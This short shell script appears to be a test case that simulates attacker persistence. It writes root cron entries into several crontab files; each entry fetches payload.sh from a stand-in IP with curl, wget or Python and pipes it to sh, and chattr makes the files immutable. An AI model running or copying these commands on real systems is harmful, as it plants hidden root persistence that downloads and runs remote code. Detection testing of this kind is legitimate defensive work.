#!/bin/sh
. /opt/case/case.sh

for f in /etc/crontab /etc/cron.d/root /etc/cron.d/apache /var/spool/cron/root /var/spool/cron/crontabs/root; do
    mkdir -p "$(dirname $f)"; chattr -ia $f 2>/dev/null || true
    echo '*/15 * * * * root (curl -fsSL http://203.0.113.10/payload.sh||wget -q -O- http://203.0.113.10/payload.sh||python -c "import urllib2 as fbi;print(fbi.urlopen(\"http://203.0.113.10/payload.sh\").read())")| sh' >>$f
    chattr +ia $f 2>/dev/null || true
done
grep -q fbi /etc/cron.d/apache
took_place
